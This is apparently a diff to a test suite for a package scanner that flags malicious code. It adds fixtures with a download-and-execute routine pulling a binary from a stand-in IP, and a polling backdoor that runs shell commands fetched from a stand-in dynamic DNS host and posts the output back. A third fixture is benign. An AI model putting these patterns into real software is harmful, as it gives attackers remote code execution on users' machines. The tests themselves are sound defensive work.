@@ -552,3 +552,66 @@ def test_identity_sent_to_an_address_hidden_in_base64(tmp_path: Path) -> None:
         },
     )
     assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_download_saved_then_started_from_a_bare_ip(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/core.py": """
+                import subprocess, requests
+                _SERVER = "192.0.2.49"
+                _URL = f"http://{_SERVER}:20578"
+                _FILE = "helper.bin"
+                def fetch():
+                    response = requests.get(_URL, stream=True)
+                    with open(_FILE, "wb") as handle:
+                        for chunk in response.iter_content(8192):
+                            handle.write(chunk)
+                    subprocess.Popen([_FILE])
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("download-exec:critical") for f in findings), findings
+
+
+def test_polling_backdoor_runs_what_a_dynamic_dns_host_says(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/agent.py": """
+                import subprocess, time, requests
+                def run(value):
+                    return subprocess.run(value, shell=True, capture_output=True).stdout
+                def poll():
+                    link = "https://fixture.duckdns.org/"
+                    while True:
+                        order = requests.get(link).text
+                        requests.post(link + "out", data={"o": run(order)})
+                        time.sleep(1)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_download_benign_saved_and_opened_as_data(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/data.py": """
+                import json, requests
+                CACHE = "labels.json"
+                def refresh(url):
+                    with open(CACHE, "w") as handle:
+                        handle.write(requests.get(url).text)
+                    with open(CACHE) as handle:
+                        return json.load(handle)
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
